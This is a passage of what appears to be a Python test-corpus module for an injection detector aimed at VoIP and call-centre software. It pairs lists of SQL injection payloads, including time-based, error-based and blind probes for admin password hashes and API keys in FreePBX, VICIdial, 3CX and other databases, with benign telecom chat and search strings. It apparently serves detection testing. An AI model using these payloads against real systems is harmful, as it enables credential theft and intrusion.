    "calldate desc,(select sleep(5))",
    "calldate,if(1=1,calldate,src)",
    "(case when (select ascii(substr(user(),1,1)))>64 then calldate else src end)",
    "1 order by 10-- -",
    "1001' order by 1#",
    "1001' order by 8#",
    "1001' group by 1,2,3#",
    # VICIdial report, MySQL
    "6666' group by user having 1=1#",
    "-1 group by concat(version(),floor(rand(0)*2)) having min(0)",
    "user_level,extractvalue(1,concat(0x7e,user()))",
    "(select 1 from dual where 1=1 and sleep(5))",
    # FreePBX list sort
    "extension,(select 1 from ampusers where username='admin' and substr(password_sha1,1,1)='a')",
    "rand(sleep(5))",
    "if((select count(*) from ampusers)>1,extension,name)",
    # Cisco SQL Server
    "5001' having 1=1--",
    "5001' group by userid having 1=1--",
    "1 order by 1--",
    "(select case when 1=1 then 1 else 1/0 end)",
    "5001' group by userid,pin having 1=1--",
    # 3CX PostgreSQL
    "101' order by 4--",
    "(case when (select current_user)='postgres' then 1 else 2 end)",
    "1,(select pg_sleep(5))",
    "101' group by 1 having 1=1--",
    # Oracle carrier
    "447700900123' order by 3--",
    "(case when (select user from dual)='SYS' then msisdn else imsi end)",
    # SQLite SMS gateway
    "1 order by (case when (select count(*) from accounts)>0 then 1 else 2 end)",
    "sent_at limit 1 offset 0 union select 1,2--",
    "1 group by 1 having 1=1--",
]

# like-between-in-operators: blind comparisons that avoid = and quotes
OPERATORS: list[Entry] = [
    # FreePBX, MySQL: secret prefix with like
    "1001' and (select data from sip where keyword='secret' limit 1) like 'a%'#",
    "1001' and user() like 'root%'#",
    "1001' or 1 like 1#",
    "1001' and database() between 'a' and 'b'#",
    "1001' and ascii(mid(user(),1,1)) between 100 and 120#",
    "1001' and 1 in (select 1 from ampusers)#",
    # VICIdial
    "6666' and (select pass from vicidial_users where user='6666') like '1%'#",
    "6666' or user_level in (8,9)#",
    "6666' and user() regexp '^r'#",
    "6666' and user() rlike '^ro'#",
    "6666' and (select count(*) from vicidial_users) not between 0 and 1#",
    # 3CX PostgreSQL
    "101' and current_user ilike 'post%'--",
    "101' and version() similar to '%PostgreSQL%'--",
    "101' and current_user ~ '^p'--",
    "101' or 1 in (select 1)--",
    # Cisco SQL Server
    "5001' and db_name() like 'CUC%'--",
    "5001' and (select top 1 name from sys.databases) between 'a' and 'n'--",
    "5001' and 1 in (select 1 from sysobjects)--",
    # Oracle carrier
    "447700900123' and user like 'S%'--",
    "' and (select count(*) from all_users) between 1 and 9999--",
    "' or 1 in (select 1 from dual)--",
    # SQLite SMS gateway
    "1 and (select api_key from accounts) glob 'a*'",
    "1 and sqlite_version() like '3.%'",
    "' or 2 between 1 and 3--",
    # GOautodial / Issabel
    "CAMP01' and campaign_id in (select campaign_id from vicidial_campaigns)#",
    "2001' and md5_password like '%'#",
    "' or mailbox not in ('')#",
    "0 or 1 between 0 and 2",
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("sqli", "libinjection-sqli", LIBINJECTION),
    ("sqli", "sql-tautology-boolean", TAUTOLOGY),
    ("sqli", "sql-comment-sequence", COMMENT),
    ("sqli", "union-select", UNION),
    ("sqli", "stacked-queries", STACKED),
    ("sqli", "time-based-blind", TIME),
    ("sqli", "error-based", ERROR),
    ("sqli", "out-of-band", OOB),
    ("sqli", "information-schema-probing", CATALOG),
    ("sqli", "mysql-comment-obfuscation", MYCOMMENT),
    ("sqli", "function-based-probing", FUNCTION),
    ("sqli", "sql-authentication-bypass", AUTH),
    ("sqli", "nosql-injection", NOSQL),
    ("sqli", "hex-char-encoding", ENCODING),
    ("sqli", "stored-procedure-xp-cmdshell", PROC),
    ("sqli", "having-group-order-by-probing", ORDER),
    ("sqli", "like-between-in-operators", OPERATORS),
]
# bracket-operator pairs written as `name=value`, sent unquoted
RAW_KV_SUBS = {"nosql-injection"}


# ----------------------------------------------------------------------------------------------------------------
# Placements
class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    raw_subs = RAW_KV_SUBS
    names = ["extension", "mailbox", "mac", "src", "dst", "uniqueid", "campaign_id", "msisdn", "q", "id"]
    rs_names = ["foo", "var", "x", "test", "id", "arg1", "extdisplay", "phone_number"]
    kv_safe = "=&[]._-:/'*$!(),;{}~@^\\"
    raw_places = ("form", "rs-param-name")
    unique = True
    path_forbids = "/?#"
    raw_body_forbids = "&"
    raw_body_pair = True
    xml_controls = "\n\t"


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same words, typed innocently (telecom engineers, call-centre supervisors and support staff in Slack,
# bios, colleague searches, vendor doc links, profiles, recording and firmware file names, ordinary headers)
CHAT = [
    "trunk to the carrier is flapping again, seeing SIP/2.0 503 Service Unavailable on every INVITE since 09:40",
    "can someone check why queue 5000 has 14 callers waiting and only 2 agents logged in?",
    "FYI the CDR export for June is in the billing folder, select the 'answered' filter before you sum billsec",
    "exten => _1XXX,1,Dial(PJSIP/${EXTEN},30) -- that's the whole internal dial plan, nothing fancy",
    "same => n,VoiceMail(${EXTEN}@default,u)",
    "I ran select calldate, src, dst, disposition from cdr where dst = '5000' order by calldate desc limit 20",
    "select count(*) from cdr where disposition = 'NO ANSWER' and calldate > '2024-06-01' -- 312 rows, ouch",
    "the group by on accountcode is slow, adding an index on calldate fixed it",
    "having a look at the SIP trace now, the 183 Session Progress comes back but no 200 OK",
    "Via: SIP/2.0/UDP 10.20.30.40:5060;branch=z9hG4bK776asdhds;rport",
    "From: \"Reception\" <sip:1001@pbx.example.com>;tag=1928301774",
    "Contact: <sip:1001@10.20.30.41:5060;transport=udp>",
    "got 488 Not Acceptable Here, codec mismatch, the carrier only offers G.729 and we allow ulaw/alaw",
    "401 Unauthorized then 403 Forbidden - the trunk password changed on the carrier side",
    "VICIdial hopper is empty for campaign SALES01, list 101 is out of dialable leads",
    "please don't drop the vicidial_list table again, use the list loader to reset leads",
    "the union rep is joining the call-centre staff meeting Thursday at 3",
    "moving the Avaya CMS reports to the new server tonight, expect gaps in the interval data",
    "Cisco CUCM upgrade window is Sunday 02:00-05:00, phones will re-register",
    "SBC shows one-way audio, RTP from 10.0.0.0/8 isn't NATed, check externip and localnet",
    "fwconsole reload fixed the stuck config, apply config button was greyed out",
    "I like the new FreePBX dashboard but the between-dates filter on the CDR report is confusing",
    "sleep(5) in the AGI script was a hack, replace it with Wait(5) in the dialplan",
    "the benchmark for the new SBC: 2,000 concurrent calls at 40% CPU",
    "who has admin on the 3CX console? need to reset extension 204's voicemail PIN",
    "number porting request for +44 20 7946 0000 is rejected, the LOA name doesn't match the bill",
    "USSD *123# menu times out after 20s, the gateway drops the session",
    "SMS gateway queue is backed up: 14k messages in outbox, kannel bearerbox restarted",
    "WebRTC softphone can't get media through, ICE candidates only host, TURN server down?",
    "recordings older than 90 days are purged by the cron job, ask before you need one",
    "in the queue log I see AGENTDUMP and ABANDON right after ENTERQUEUE, callers hanging up fast",
    "where did the IVR option 3 go? someone removed the 'or' branch in the time condition",
    "MySQL on the PBX: innodb_buffer_pool_size is 128M, way too small for asteriskcdrdb",
    "xp_cmdshell is disabled on the reporting SQL Server, good, leave it that way",
    "the waitfor delay in the Avaya nightly job is there on purpose, it waits for the ETL",
    "pg_dump of the billing DB takes 40 min now, we should move it off peak",
    "information_schema query for table sizes: it's asteriskcdrdb.cdr at 38 GB",
    "the stored procedure usp_daily_agent_stats is what feeds the wallboard",
    "order by calldate desc, then src - that's how supervisors want the report sorted",
    "ticket INC-20417: customers in 0161 area code get fast busy, carrier confirmed route issue",
    "dialing 9 for an outside line still works on the old Elastix box, not on Issabel",
    "concat the first and last name for the phone directory XML, the Yealinks show 16 chars max",
    "the provisioning server serves y000000000044.cfg and {mac}.cfg for the T46U phones",
    "Polycom phones pull 0004f2abcdef-phone.cfg, check the MAC case, they want lowercase",
    "char limit on SMS: 160 GSM-7 or 70 UCS-2, longer messages get split",
    "hex dump of the RTP packet shows payload type 0 (PCMU), so it's not the codec",
    "the MongoDB behind the softphone app stores call history, don't query without an index on userId",
    "SIP OPTIONS keepalive every 30s, the carrier marks us down after 3 misses",
    "ringing timeout is 25 seconds then it goes to voicemail, per the HR request",
    "music on hold file must be 8kHz mono wav, the 44.1k mp3 plays as static",
    "CLI presentation: we send P-Asserted-Identity, the carrier ignores From for caller ID",
    "for the outage review: 14:02 trunk down, 14:05 failover to backup, 14:31 primary restored",
    "on-call this week for the PBX and the contact centre, ping me in #voip-oncall",
    "supervisors can barge and whisper from the agent monitor, not from the realtime report",
    "1=1 meeting with the carrier account manager moved to Friday",
    "can we get a report of calls where duration between 0 and 5 seconds? looks like robocalls",
    "the like filter in the call log search is case-sensitive on 3CX, annoying",
    "DTMF is RFC 2833 on the trunk, inband on the fax line",
    "T.38 fax keeps failing, 415 Unsupported Media Type from the ATA",
    "agents in queue 5001 are in pause code BREAK for too long, supervisors please check",
    "group pickup *8 only works within the same call group, that's by design",
    "the admin password for the Grandstream phones is in the vault, not in this channel",
    # bios
    "VoIP engineer, Asterisk since 1.4, I dream in dial plans and SIP ladders",
    "Contact-centre supervisor, VICIdial and GOautodial, 12 years on the floor",
    "Unified communications architect: Cisco CUCM, Webex, Teams Direct Routing",
    "Telecom billing analyst. CDRs, rating, SQL and too many spreadsheets",
    "Network and voice engineer. SBCs, SIP trunks, QoS and the occasional fax machine",
    "Support agent, number porting and carrier escalations, ask me about LOAs",
    "SMS platform developer, Kannel and Jasmin, SMPP is my love language",
    "WebRTC tinkerer, coturn, Janus and Kamailio",
]

SEARCHES = [
    "1001", "ext 204", "voip team", "contact centre", "queue 5000", "asterisk", "freepbx", "vicidial",
    "o'connor", "d'souza", "union", "select", "order", "group", "between", "like", "sleep", "benchmark",
    "sip", "trunk", "pbx admin", "billing", "cdr", "recording", "voicemail", "sms gateway", "ussd",
    "webrtc", "cisco", "avaya", "3cx", "porting", "noc", "on-call", "having", "or", "and", "+44 20 7946",
    "supervisor", "extension 5001",
]

URLS = [
    "https://wiki.asterisk.org/wiki/display/AST/Dialplan",
    "https://docs.asterisk.org/Configuration/Channel-Drivers/SIP/Configuring-res_pjsip/",
    "https://wiki.freepbx.org/display/FPG/CDR+Reports",
    "https://www.vicidial.org/VICIDIALforum/viewtopic.php?t=41234",
    "https://www.3cx.com/docs/manual/call-reports/",
    "https://www.cisco.com/c/en/us/support/unified-communications/unified-communications-manager-callmanager/"
    "products-installation-and-configuration-guides-list.html",
    "https://support.avaya.com/products/P0793/avaya-call-management-system",
    "https://datatracker.ietf.org/doc/html/rfc3261#section-21",
    "https://datatracker.ietf.org/doc/html/rfc4733",
    "https://www.kannel.org/download/1.4.5/userguide-1.4.5/userguide.html",
    "https://webrtc.org/getting-started/peer-connections",
    "https://dev.mysql.com/doc/refman/8.0/en/select.html",
    "https://www.postgresql.org/docs/current/functions-datetime.html",
    "https://jira.example.com/browse/VOIP-1182",
    "https://status.carrier.example.net/incidents/2024-06-14-sip-trunk-outage",
    "https://support.yealink.com/en/portal/docList?archiveType=document&productCode=T46U",
    "https://wiki.issabel.org/index.php/Queues",
    "https://goautodial.org/projects/goautodialce/wiki",
    "https://docs.example.com/telecom/number-porting#loa",
    "https://learn.microsoft.com/en-us/microsoftteams/direct-routing-plan",
]

PROSE = [
    "Call-centre floor seating plan, Q3",
    "SIP trunk outage post-mortem: union of carrier and internal timelines",
    "Select a queue to see waiting callers",
    "Calls between 08:00 and 18:00 only",
    "Group by agent, order by talk time",
    "Supervisors: having trouble with barge? see the wiki",
    "Voicemail to email for extensions like 2xxx",
    "Night mode or day mode, set by the time condition",
    "Sleep mode for idle phones after 10 minutes",
    "Benchmark results: 2,000 concurrent calls",
    "Drop-in session for new agents, Monday 10:00",
    "CDR export for finance (answered calls only)",
    "Number porting checklist - LOA, bill copy, account number",
    "Recording retention policy: 90 days",
    "Exec escalation path for P1 voice outages",
    "IVR option 1 for sales, 2 for support, or stay on the line",
    "Union Street call centre",
    "O'Neill, Siobhan - team lead, evening shift",
    "Wallboard shows calls in queue, longest wait and SLA",
    "Dial 9 for an outside line",
    "Press * to return to the previous menu, # to confirm",
    "Fax to email via T.38",
    "Caller ID and P-Asserted-Identity rules",
    "Emergency calls: 999/112 always route to the primary trunk",
    "Hex firmware images for the ATAs",
    "Stored procedures owned by the reporting team",
    "Information for new starters: phones, headsets and logins",
    "Where to find the wallboard URL",
    "Porting in or out: allow 10 working days",
    "SMS templates for appointment reminders",
]

PROFILES = [
    ("Siobhan O'Neill", "Union Street 12, Glasgow"),
    ("Ravi D'Costa", "Tech Park 4, Pune"),
    ("Select Telecom Ltd", "Harbour Rd 9, Cork"),
    ("Between Calls Café", "Station Sq 2, Utrecht"),
    ("Group Voice Services", "Order Lane 3, Leeds"),
    ("Sleepy Hollow Answering Service", "Main St 5, Tarrytown"),
    ("Dialplan Consulting", "Kungsgatan 40, Stockholm"),
    ("Trunk & Line Cabling", "Industrial Est 7, Swindon"),
    ("Queue Masters BPO", "Ayala Ave 120, Makati"),
    ("Like Minds Contact Centre", "Queen St 21, Auckland"),
    ("Having Voice Ltd", "High St 8, Bristol"),
    ("Benchmark Networks", "Rue de la Gare 3, Lyon"),
    ("Hex Communications", "Canal 14, Amsterdam"),
    ("Mongo Telecom", "Calle 8, Miami"),
    ("Carrier Relations Office", "Fleet St 100, London"),
]

UPLOAD_NAMES = [
    "cdr-export-2024-06.csv", "queue_5000_stats.xlsx", "out-20240614-101530-1001-5551234-1718360130.42.wav",
    "q-5000-20240614-1130-1718364600.88.wav", "vm-2001-msg0003.wav", "sip-trace-trunk1.pcap",
    "y000000000044.cfg", "0004f2abcdef-phone.cfg", "T46U-66.86.0.15.rom", "cisco-cp-8845-fw-14-2-1.zip",
    "freepbx-backup-2024-06-01.tar.gz", "asteriskcdrdb_dump.sql", "vicidial_list_leads_SALES01.csv",
    "porting-LOA-O'Brien.pdf", "carrier-invoice-June.pdf", "ivr-menu-v3 (final).mp3",
    "moh_8k_mono.wav", "agent-schedule week 25.xlsx", "sms-templates.json", "outage-report-INC-20417.docx",
]

BENIGN_HEADERS = [
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/126.0.0.0 Safari/537.36"),
    ("User-Agent", "Yealink SIP-T46U 108.86.0.20 805ec0a1b2c3"),
    ("User-Agent", "Grandstream Model HW GXP2170 SW 1.0.11.23 DevId c074ad123456"),
    ("User-Agent", "PolycomVVX-VVX_450-UA/6.4.3.5018"),
    ("User-Agent", "Zoiper rv2.10.20.3"),
    ("User-Agent", "curl/8.7.1"),
    ("Referer", "https://pbx.example.com/admin/config.php?display=extensions&extdisplay=1001"),
    ("Referer", "https://pbx.example.com/admin/config.php?display=cdr&order=calldate&sort=desc"),
    ("Referer", "https://dialer.example.com/vicidial/admin.php?ADD=31&campaign_id=SALES01"),
    ("Referer", "https://www.google.com/search?q=asterisk+queue+group+by+agent+report"),
    ("X-Api-Version", "2024-06-01"),
    ("X-Request-Id", "9b2e6c1a-4f7d-4a3e-8c21-5d0f7e3b9a64"),
    ("Accept-Language", "en-GB,en;q=0.9"),
    ("Cookie", "session=abc123; last_ext=1001; queue=5000"),
    ("Cookie", "session=abc123; report=cdr; range=2024-06-01%2C2024-06-30"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


if __name__ == "__main__":
    print_records(attacks(), benign())
